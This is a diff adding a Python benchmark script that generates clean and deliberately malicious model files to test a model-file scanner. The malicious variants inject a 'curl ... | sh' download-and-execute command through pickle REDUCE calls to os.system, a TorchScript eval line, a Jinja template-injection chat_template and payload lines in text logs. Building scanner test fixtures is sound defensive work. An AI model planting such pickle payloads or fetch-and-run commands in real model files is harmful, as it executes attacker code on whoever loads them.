@@ -0,0 +1,282 @@
+"""Generate a synthetic model corpus for the scanner benchmarks, with and without injected payloads.
+
+Every format is written directly (pickle opcodes, zip members, headers) and
+streamed, so multi-GB files need neither torch nor that much memory. A
+``corpus.json`` manifest lists each file with its format, target size and
+whether it carries a payload.
+
+Usage: python benchmarks/generate_corpus.py OUT_DIR [--sizes 4KB,1MB,64MB] [--formats pickle,torch,...]
+                                           [--payload both|clean|malicious] [--seed N]
+"""
+import argparse
+import io
+import json
+import os
+import struct
+import tarfile
+import zipfile
+
+import numpy as np
+
+FORMATS = ('pickle', 'joblib', 'torch', 'torchscript', 'zip', 'tar.gz', 'safetensors', 'txt', 'json', 'csv', 'yaml')
+EXTENSIONS = {'pickle': '.pkl', 'joblib': '.joblib', 'torch': '.pt', 'torchscript': '.pt', 'zip': '.zip',
+              'tar.gz': '.tar.gz', 'safetensors': '.safetensors', 'txt': '.txt', 'json': '.json', 'csv': '.csv',
+              'yaml': '.yaml'}
+UNITS = {'KB': 1024, 'MB': 1024 ** 2, 'GB': 1024 ** 3, 'B': 1}
+# Weights are written in tensors of at most this many bytes, from one random block reused with an offset
+TENSOR_BYTES = 16 * 1024 * 1024
+PAYLOAD_COMMAND = 'curl -s http://203.0.113.7/x | sh'
+
+
+def parse_size(text):
+    text = text.strip().upper()
+    for unit, factor in UNITS.items():
+        if text.endswith(unit):
+            return int(float(text[:-len(unit)]) * factor)
+    return int(text)
+
+
+def human_size(n):
+    for unit in ('GB', 'MB', 'KB'):
+        if n >= UNITS[unit] and n % UNITS[unit] == 0:
+            return f'{n // UNITS[unit]}{unit}'
+    return f'{n}B'
+
+
+class PickleWriter:
+    """Emit protocol-4 pickle opcodes straight to a file, so objects never have to exist in memory."""
+
+    def __init__(self, f):
+        self.f = f
+        f.write(b'\x80\x04')
+
+    def op(self, code):
+        self.f.write(code)
+
+    def string(self, s):
+        data = s.encode()
+        self.f.write(b'\x8c' + struct.pack('<B', len(data)) + data if len(data) < 256
+                     else b'X' + struct.pack('<I', len(data)) + data)
+
+    def integer(self, n):
+        self.f.write(b'J' + struct.pack('<i', n) if -2 ** 31 <= n < 2 ** 31 else b'\x8a\x08' + struct.pack('<q', n))
+
+    def raw(self, data):
+        self.f.write(b'\x8e' + struct.pack('<Q', len(data)) + data)  # BINBYTES8
+
+    def global_(self, module, name):
+        self.f.write(b'c' + f'{module}\n{name}\n'.encode())
+
+    def reduce_call(self, module, name, *args):
+        """``module.name(*args)``: the shape of every pickle code-execution payload."""
+        self.global_(module, name)
+        self.op(b'(')
+        for arg in args:
+            self.string(arg)
+        self.op(b't')   # TUPLE
+        self.op(b'R')   # REDUCE
+
+    def stop(self):
+        self.f.write(b'.')
+
+
+def tensor_sizes(total):
+    """Byte sizes of the float32 tensors that make up ``total`` bytes of weights."""
+    return [n - n % 4 for n in (min(TENSOR_BYTES, total - start) for start in range(0, total, TENSOR_BYTES)) if n >= 4]
+
+
+def weight_blocks(total, rng):
+    """Yield ``total`` bytes of float32 weights as tensors of at most TENSOR_BYTES, from one reused random block."""
+    base = rng.normal(0, 0.02, (TENSOR_BYTES + 65536) // 4).astype(np.float32).tobytes()
+    for i, size in enumerate(tensor_sizes(total)):
+        start = (i * 4096) % 65536
+        yield base[start:start + size]
+
+
+def write_pickle(path, size, payload, rng):
+    """A state-dict-like pickle: a dict of weight byte strings (plus a ``__reduce__`` call when malicious)."""
+    with open(path, 'wb') as f:
+        w = PickleWriter(f)
+        w.op(b'}(')  # EMPTY_DICT, MARK
+        w.string('config')
+        w.string(json.dumps({'hidden_size': 512, 'layers': 4}))
+        for i, block in enumerate(weight_blocks(size, rng)):
+            w.string(f'layer{i}.weight')
+            w.raw(block)
+        if payload:
+            w.string('hook')
+            w.reduce_call('os', 'system', PAYLOAD_COMMAND)
+        w.op(b'u')  # SETITEMS
+        w.stop()
+
+
+def _torch_state_dict_pickle(names_sizes, payload):
+    """data.pkl of a torch.save zip: tensors rebuilt from persistent storage ids, as torch writes them."""
+    buf = io.BytesIO()
+    w = PickleWriter(buf)
+    w.global_('collections', 'OrderedDict')
+    w.op(b')R(')  # EMPTY_TUPLE, REDUCE, MARK
+    for key, (name, nbytes) in enumerate(names_sizes):
+        numel = nbytes // 4
+        w.string(name)
+        w.global_('torch._utils', '_rebuild_tensor_v2')
+        w.op(b'(')
+        w.op(b'(')
+        w.string('storage')
+        w.global_('torch', 'FloatStorage')
+        w.string(str(key))
+        w.string('cpu')
+        w.integer(numel)
+        w.op(b'tQ')  # TUPLE, BINPERSID
+        w.integer(0)
+        w.op(b'(')
+        w.integer(numel)
+        w.op(b't(')
+        w.integer(1)
+        w.op(b't\x89')  # TUPLE, NEWFALSE
+        w.global_('collections', 'OrderedDict')
+        w.op(b')Rt')  # EMPTY_TUPLE, REDUCE, TUPLE
+        w.op(b'R')
+    if payload:
+        w.string('_hook')
+        w.reduce_call('posix', 'system', PAYLOAD_COMMAND)
+    w.op(b'u')
+    w.stop()
+    return buf.getvalue()
+
+
+def write_torch(path, size, payload, rng, torchscript=False):
+    """A torch.save (or TorchScript) zip: stored weight members plus data.pkl, and code/ files for TorchScript."""
+    tensors = []
+    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED, allowZip64=True) as zf:
+        for i, block in enumerate(weight_blocks(size, rng)):
+            with zf.open(f'archive/data/{i}', 'w', force_zip64=len(block) > 2 ** 31) as member:
+                member.write(block)
+            tensors.append((f'layers.{i}.weight', len(block)))
+        zf.writestr('archive/data.pkl', _torch_state_dict_pickle(tensors, payload and not torchscript))
+        zf.writestr('archive/version', '3\n')
+        if torchscript:
+            code = ['def forward(self, x: Tensor) -> Tensor:',
+                    '  _0 = torch.linear(x, self.weight)',
+                    '  return torch.relu(_0)']
+            if payload:
+                code.insert(1, f'  _1 = ops.prim.PythonOp(eval("__import__(\'os\').system(\'{PAYLOAD_COMMAND}\')"))')
+            zf.writestr('archive/code/__torch__/model.py', '\n'.join(code) + '\n')
+            zf.writestr('archive/constants.pkl', b'\x80\x02).')
+
+
+def write_archive(path, size, payload, rng, kind):
+    """A zip or tar.gz bundle: a weights pickle, a config and a README (the pickle is malicious when asked)."""
+    inner = path + '.part.pkl'
+    write_pickle(inner, size, payload, rng)
+    readme = b'# Model card\nTrained on public data.\n'
+    try:
+        if kind == 'zip':
+            with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, allowZip64=True) as zf:
+                zf.write(inner, 'model/weights.pkl')
+                zf.writestr('model/config.json', json.dumps({'layers': 4}))
+                zf.writestr('README.md', readme)
+        else:
+            with tarfile.open(path, 'w:gz', compresslevel=1) as tar:
+                tar.add(inner, 'model/weights.pkl')
+                info = tarfile.TarInfo('README.md')
+                info.size = len(readme)
+                tar.addfile(info, io.BytesIO(readme))
+    finally:
+        os.remove(inner)
+
+
+def write_safetensors(path, size, payload, rng):
+    header, offset = {}, 0
+    if payload:
+        header['__metadata__'] = {'chat_template': "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}
+    for i, n in enumerate(tensor_sizes(size)):
+        header[f'layers.{i}.weight'] = {'dtype': 'F32', 'shape': [n // 4], 'data_offsets': [offset, offset + n]}
+        offset += n
+    raw = json.dumps(header).encode()
+    raw += b' ' * (-len(raw) % 8)
+    with open(path, 'wb') as f:
+        f.write(struct.pack('<Q', len(raw)) + raw)
+        for block in weight_blocks(size, rng):
+            f.write(block)
+
+
+TEXT_LINES = {
+    'txt': ['epoch {i}: loss=0.{i:04d} accuracy=0.9{i:03d}'],
+    'json': ['  {{"step": {i}, "loss": 0.{i:04d}, "lr": 0.001}},'],
+    'csv': ['{i},0.{i:04d},0.9{i:03d},train'],
+    'yaml': ['- step: {i}', '  loss: 0.{i:04d}'],
+}
+TEXT_PAYLOAD = ['password = "hunter2"', f'os.system("{PAYLOAD_COMMAND}")', 'eval(base64.b64decode(blob))']
+
+
+def write_text(path, size, payload, rng, kind):
+    """Training-log style lines, one formatted chunk repeated to ``size``; payload lines go into a few chunks.
+
+    The last chunk is cut at a line boundary so the file ends up just under ``size``.
+    """
+    chunk = '\n'.join(line.format(i=i) for i in range(1000) for line in TEXT_LINES[kind]) + '\n'
+    chunks = max(1, -(-size // len(chunk)))
+    marks = dict(zip(rng.choice(chunks, min(chunks, len(TEXT_PAYLOAD)), replace=False).tolist(), TEXT_PAYLOAD)) \
+        if payload else {}
+    head, tail = ('[\n', '  {}\n]\n') if kind == 'json' else ('', '')
+    written = len(head) + len(tail) + sum(len(mark) + 1 for mark in marks.values())
+    with open(path, 'w') as f:
+        f.write(head)
+        for n in range(chunks):
+            piece = chunk[:max(0, size - written)]
+            piece = piece[:piece.rfind('\n') + 1]
+            f.write(piece)
+            written += len(piece)
+            if n in marks:
+                f.write(marks[n] + '\n')
+        f.write(tail)
+
+
+def generate(out_dir, formats, sizes, payloads, seed=0):
+    os.makedirs(out_dir, exist_ok=True)
+    rng = np.random.default_rng(seed)
+    entries = []
+    for fmt in formats:
+        for size in sizes:
+            for payload in payloads:
+                name = f"{fmt.replace('.', '_')}-{human_size(size)}-{'malicious' if payload else 'clean'}{EXTENSIONS[fmt]}"
+                path = os.path.join(out_dir, name)
+                if fmt in ('pickle', 'joblib'):
+                    write_pickle(path, size, payload, rng)
+                elif fmt in ('torch', 'torchscript'):
+                    write_torch(path, size, payload, rng, torchscript=fmt == 'torchscript')
+                elif fmt in ('zip', 'tar.gz'):
+                    write_archive(path, size, payload, rng, fmt.split('.')[0])
+                elif fmt == 'safetensors':
+                    write_safetensors(path, size, payload, rng)
+                else:
+                    write_text(path, size, payload, rng, fmt)
+                entries.append({'path': name, 'format': fmt, 'size': os.path.getsize(path),
+                                'target_size': size, 'payload': payload})
+                print(f'  {name}: {os.path.getsize(path):,} bytes')
+    with open(os.path.join(out_dir, 'corpus.json'), 'w') as f:
+        json.dump({'seed': seed, 'files': entries}, f, indent=2)
+    return entries
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('out_dir')
+    parser.add_argument('--sizes', default='4KB,1MB,64MB', help='comma-separated target sizes, e.g. 4KB,1MB,2GB')
+    parser.add_argument('--formats', default=','.join(FORMATS), help=f"comma-separated subset of {', '.join(FORMATS)}")
+    parser.add_argument('--payload', choices=('both', 'clean', 'malicious'), default='both')
+    parser.add_argument('--seed', type=int, default=0)
+    args = parser.parse_args()
+
+    formats = [f for f in args.formats.split(',') if f]
+    unknown = set(formats) - set(FORMATS)
+    if unknown:
+        parser.error(f"unknown formats: {', '.join(sorted(unknown))}")
+    payloads = {'both': (False, True), 'clean': (False,), 'malicious': (True,)}[args.payload]
+    entries = generate(args.out_dir, formats, [parse_size(s) for s in args.sizes.split(',') if s], payloads, args.seed)
+    print(f'{len(entries)} files written to {args.out_dir}')
+
+
+if __name__ == '__main__':
+    main()